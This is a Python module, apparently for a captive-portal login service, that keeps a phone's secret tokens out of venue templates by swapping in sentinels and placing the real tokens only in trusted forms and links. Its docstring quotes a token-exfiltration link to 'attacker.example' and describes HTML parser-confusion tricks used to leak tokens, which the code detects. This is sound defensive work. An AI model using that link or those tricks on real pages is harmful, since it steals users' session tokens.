"""Late binding of a phone's secret tokens: venue templates never see them.

A phone page carries tokens that act for the phone: ``c`` (its signed context), ``ticket`` (the
ad page's single-use continue ticket) and ``s`` (the status token that logs it out). A venue
template could copy any value it can read into a link to another site (an attack run found
``<a href="https://attacker.example/collect?s={{ s }}">`` on a published status page). So the
template gets a random sentinel in their place — in ``c``/``s``/``ticket`` and wherever a token
appears inside another value (``lang_url``, ``status_url``, the WISPr ``login_url``) — and the
real token is written into the rendered HTML afterwards, only where it is ours to put:

* as the whole ``value`` of an ``<input name="c|s|ticket">`` whose form (the one around it, or
  the one its ``form=`` names) posts to one of the page's own ``urls`` (or to the page itself);
* as an ``href``/``action`` that is, character for character, one of the links we handed out
  with a token in it (the language link, the status link);
* inside the WISPr XML comment, as an exact copy of the WISPr login URL we handed out.

Anywhere else — another attribute of such a tag, a link the template built, text, a comment,
a ``<style>`` — the sentinel is removed, and so is every sentinel of a tag that holds one in a
place it may not. The sentinels are fresh per render, so a template cannot prepare for one; it
can transform the sentinel (reverse it, slice it), which reveals nothing.

Which form an input belongs to is decided here by Python's ``HTMLParser``, which is not a browser's
HTML5 tree builder: a fourth attack run made the two disagree (two ``action`` attributes — the
browser keeps the first, a dict the last; ``/``-separated attributes; a nested ``<form>``, which a
browser ignores; a button's ``formaction`` to another host), so the browser posted a token the server had
placed for its own form to another host. Such markup has no honest use in a phone page, so a page
holding any of it (or markup inside elements whose content a browser reads as text or as SVG/MathML,
where the two parsers differ again) gets no input token at all: ``ambiguity`` names the reason,
and the page's forms fail closed.
"""
from __future__ import annotations

import re
import secrets
from collections.abc import Mapping
from html import escape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qsl, urlsplit

__all__ = ["SECRET_FIELDS", "LateTokens", "hide_tokens"]

SECRET_FIELDS = ("c", "s", "ticket")
_LINK_ATTRS = frozenset({"href", "action"})
# Elements whose content a browser does not parse as HTML tags while HTMLParser does: a form or
# input tag inside one is seen by the two differently. Raw text ends at the first matching end
# tag (a script holding "<!--" may run on: up to its last one); inert template content and
# foreign SVG/MathML nest, so for those: from the first start tag to the last end tag. Every
# region is found with str.find/rfind, so a page of many unclosed openers stays linear.
_RAW_TEXT = ("title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "script", "style")
_NESTING = ("template", "svg", "math")
_OPENER = re.compile(r"<(" + "|".join(_RAW_TEXT) + r")\b", re.IGNORECASE)
_FORM_MARKUP = re.compile(r"</?(form|input|button|select|textarea|plaintext)\b", re.IGNORECASE)
# A '/' right after a quoted value, not closing the tag: both parsers read it as a separator
# today, but it only ever appears to smuggle a second attribute past a reader (an attack run).
_QUOTED = re.compile(r""""[^"]*"|'[^']*'""")
_SLASH_AFTER_VALUE = re.compile(r"""''\s*/(?!\s*>)""")


def _slash_between_attrs(raw: str) -> bool:
    return bool(_SLASH_AFTER_VALUE.search(_QUOTED.sub("''", raw)))


def ambiguity(html: str) -> str:
    """Why a browser might see this page's forms otherwise than HTMLParser does ("" = no reason)."""
    lower = html.lower()
    if re.search(r"<plaintext\b", lower):
        return "plaintext"
    for name in _NESTING:
        start = lower.find("<" + name)
        if start >= 0:
            end = lower.rfind("</" + name)
            if _FORM_MARKUP.search(html, start + 1 + len(name), end if end > start else len(html)):
                return f"form markup inside <{name}>"
    pos = 0
    while (m := _OPENER.search(html, pos)) is not None:
        name = m.group(1).lower()
        end = lower.find("</" + name, m.end())
        if name == "script" and "<!--" in lower[m.end():end if end >= 0 else len(html)]:
            end = lower.rfind("</script")
        if _FORM_MARKUP.search(html, m.end(), end if end >= m.end() else len(html)):
            return f"form markup inside <{name}>"
        if end < m.end():
            break
        pos = end + 2 + len(name)
    return ""


class LateTokens:
    """Sentinel ↔ token for one render; :meth:`bind` writes the tokens into the HTML."""

    def __init__(self) -> None:
        self.fields: dict[str, str] = {}            # sentinel → field name
        self.real: dict[str, str] = {}              # sentinel → token
        self.links: set[str] = set()                # handed-out values with a sentinel inside
        self.actions: set[str] = {""}               # form actions that are ours (the page's urls)
        self.ambiguous = ""                         # why the last bind placed no input token

    def sentinel_for(self, field: str, token: str) -> str:
        for sentinel, known in self.real.items():
            if known == token:
                return sentinel
        sentinel = "cwlate" + secrets.token_hex(16)
        self.fields[sentinel] = field
        self.real[sentinel] = token
        return sentinel

    def restore(self, text: str) -> str:
        for sentinel, token in self.real.items():
            text = text.replace(sentinel, token)
        return text

    def bind(self, html: str) -> str:
        """``html`` with each sentinel replaced by its token where allowed, removed elsewhere."""
        if not any(s in html for s in self.fields):
            return html
        finder = _Finder(self, ambiguity(html))
        finder.feed(html)
        finder.close()
        self.ambiguous = finder.ambiguous
        out, last = [], 0
        for start, end, text in sorted(finder.edits):
            if start < last:
                continue
            out.append(html[last:start])
            out.append(text)
            last = end
        out.append(html[last:])
        result = "".join(out)
        for sentinel in self.fields:           # whatever was not in an allowed place
            result = result.replace(sentinel, "")
        return result


def _tokens_in(value: str) -> list[tuple[str, str]]:
    """(field, token) of the secret query parameters of a link we hand out (``?s=…``)."""
    if "?" not in value or "=" not in value:
        return []
    try:
        query = parse_qsl(urlsplit(value).query)
    except ValueError:
        return []
    return [(k, v) for k, v in query if k in SECRET_FIELDS and len(v) >= 16]


def hide_tokens(context: Mapping[str, Any]) -> tuple[dict[str, Any], LateTokens]:
    """A copy of ``context`` with every secret token replaced by a sentinel, and the binder.
    Secret tokens: the values of ``c``/``s``/``ticket``, and of those query parameters in any
    link of the context (the success page's ``status_url``, a ``lang_url``)."""
    late = LateTokens()
    found: list[tuple[str, str]] = [(f, context[f]) for f in SECRET_FIELDS
                                    if isinstance(context.get(f), str) and len(context[f]) >= 16]

    def collect(value: Any) -> None:
        if isinstance(value, str):
            found.extend(_tokens_in(value))
        elif isinstance(value, list | tuple):
            for v in value:
                collect(v)
        elif isinstance(value, Mapping):
            for v in value.values():
                collect(v)

    collect(context)
    swaps = sorted(((token, late.sentinel_for(field, token)) for field, token in found),
                   key=lambda pair: len(pair[0]), reverse=True)

    def walk(value: Any) -> Any:
        if isinstance(value, str):
            replaced = value
            for token, sentinel in swaps:
                replaced = replaced.replace(token, sentinel)
            if replaced != value and replaced not in late.fields:
                late.links.add(replaced)
            return replaced
        if isinstance(value, list | tuple):
            return [walk(v) for v in value]
        if isinstance(value, Mapping):
            return {k: walk(v) for k, v in value.items()}
        return value

    hidden = {k: walk(v) for k, v in context.items()}
    urls = hidden.get("urls")
    if isinstance(urls, Mapping):
        late.actions.update(v for v in urls.values() if isinstance(v, str) and v)
    late.actions.update(late.links)
    return hidden, late


class _Finder(HTMLParser):
    """Collects (start, end, replacement) for tags and comments holding a sentinel."""

    def __init__(self, late: LateTokens, ambiguous: str = "") -> None:
        super().__init__(convert_charrefs=True)
        self.late = late
        self.ambiguous = ambiguous
        self.edits: list[tuple[int, int, str]] = []
        self._lines: list[int] = []
        self._forms: list[str] = []                 # actions of the open <form>s
        self._form_ids: dict[str, str] = {}         # id → action, for inputs naming a form=
        self._inputs: list[tuple[int, str, list[tuple[str, str | None]], str | None]] = []

    def feed(self, data: str) -> None:
        # Where each line starts (getpos() counts lines): str.find, not a Python loop per character.
        self._lines = [0]
        i = data.find("\n")
        while i >= 0:
            self._lines.append(i + 1)
            i = data.find("\n", i + 1)
        super().feed(data)

    def close(self) -> None:
        super().close()
        for start, raw, attrs, enclosing in self._inputs:   # forms may follow their inputs
            named = dict(attrs).get("form")
            owner = self._form_ids.get(named) if named is not None else enclosing
            ours = owner is not None and owner in self.late.actions and not self.ambiguous
            self.edits.append((start, start + len(raw), self._restore_tag("input", attrs, raw, ours)))

    def _offset(self) -> int:
        line, col = self.getpos()
        return self._lines[line - 1] + col

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        raw = self.get_starttag_text() or ""
        self._check(tag, attrs, raw)
        if tag == "form":
            action = dict(attrs).get("action") or ""
            self._forms.append(action)
            form_id = dict(attrs).get("id")
            if form_id:
                self._form_ids.setdefault(form_id, action)
        if not any(s in raw for s in self.late.fields):
            return
        start = self._offset()
        if tag == "input":
            self._inputs.append((start, raw, attrs, self._forms[-1] if self._forms else None))
            return
        self.edits.append((start, start + len(raw), self._restore_tag(tag, attrs, raw, False)))

    def _check(self, tag: str, attrs: list[tuple[str, str | None]], raw: str) -> None:
        """Note the first markup a browser would read otherwise than this parser."""
        if self.ambiguous:
            return
        names = [name for name, _ in attrs]
        if len(set(names)) != len(names):
            self.ambiguous = f"<{tag}> repeats an attribute"
        elif "formaction" in names and dict(attrs)["formaction"] not in self.late.actions:
            self.ambiguous = f"<{tag} formaction> to somewhere not ours"
        elif tag == "form" and self._forms:
            self.ambiguous = "a <form> inside a <form>"
        elif _slash_between_attrs(raw):
            self.ambiguous = f"<{tag}> with '/' between attributes"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "form" and self._forms:
            self._forms.pop()

    def handle_endtag(self, tag: str) -> None:
        if tag == "form" and self._forms:
            self._forms.pop()

    def _restore_tag(self, tag: str, attrs: list[tuple[str, str | None]], raw: str, our_form: bool) -> str:
        field = dict(attrs).get("name")
        for key, value in attrs:
            if not value or not any(s in value for s in self.late.fields):
                continue
            allowed = (tag == "input" and key == "value" and our_form
                       and self.late.fields.get(value) == field) or (
                key in _LINK_ATTRS and value in self.late.links and tag in ("a", "form"))
            if not allowed:
                return raw          # left for the final sweep, which removes every sentinel
        return self.late.restore(raw)

    def handle_comment(self, data: str) -> None:
        if "<WISPAccessGatewayParam" not in data or not any(s in data for s in self.late.fields):
            return
        start = self._offset()
        restored = data
        for link in self.late.links:
            for form in (escape(link, quote=False), link):
                restored = restored.replace(form, self.late.restore(form))
        self.edits.append((start, start + len(data) + 7, f"<!--{restored}-->"))
